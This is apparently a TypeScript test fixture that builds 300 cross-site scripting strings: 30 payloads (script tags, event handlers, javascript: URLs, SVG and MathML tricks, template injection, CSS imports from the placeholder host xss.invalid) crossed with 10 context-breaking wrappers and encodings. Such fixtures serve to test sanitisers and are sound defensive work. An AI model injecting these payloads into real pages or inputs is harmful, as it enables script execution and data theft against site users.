// Texts that are harmless as letters and run as soon as anything takes them for markup or code.

/** Calls `xss`, which whoever looks has put there, or asks for something of another host. */
const CODES = [
  '<script>xss(1)</script>',
  '<img src=x onerror=xss(1)>',
  '<svg onload=xss(1)>',
  '<svg><script>xss(1)</script></svg>',
  '<svg><animate onbegin=xss(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=xss(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss(1)>#x"/></svg>',
  '<foreignObject><iframe src="javascript:parent.xss(1)"/></foreignObject>',
  '<iframe srcdoc="<script>parent.xss(1)</script>">',
  '<iframe src=//xss.invalid/frame>',
  '<object data="javascript:xss(1)">',
  '<embed src="javascript:xss(1)">',
  '<details open ontoggle=xss(1)>',
  '<input autofocus onfocus=xss(1)>',
  '<video><source onerror=xss(1)>',
  '<body onload=xss(1)>',
  '<style>@import "//xss.invalid/style";</style>',
  '<link rel=stylesheet href=//xss.invalid/link>',
  '<base href=//xss.invalid/>',
  '<meta http-equiv=refresh content="0;url=//xss.invalid/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss(1)>',
  '<a href="javascript:xss(1)" autofocus>x</a>',
  '<form><button formaction="javascript:xss(1)">x',
  '<xss style="background:url(//xss.invalid/css)">',
  'javascript:xss(1)',
  "'-xss(1)-'",
  '${xss(1)}',
  "{{constructor.constructor('xss(1)')()}}",
  '" onload="xss(1)" onfocus="xss(1)" autofocus x="',
  'url("//xss.invalid/url")',
] as const;

/** What would end the place that a text stands in. */
const AROUND: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `">${code}`,
  (code) => `'>${code}`,
  (code) => `]]>${code}`,
  (code) => `-->${code}`,
  (code) => `</text></title></style></textarea></script>${code}`,
  (code) => code.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (code) => code.replaceAll('<', '\\u003c').replaceAll("'", '\\x27'),
  (code) => code.replaceAll('<', '<\u0000').replaceAll('=', '\u000b='),
  (code) => `\u2028${code.replace('xss(1)', 'xss&#40;1&#41;')}\u202e`,
];

/** 300 of them, no two the same. */
export const HOSTILE: readonly string[] = AROUND.flatMap((around) => CODES.map(around));
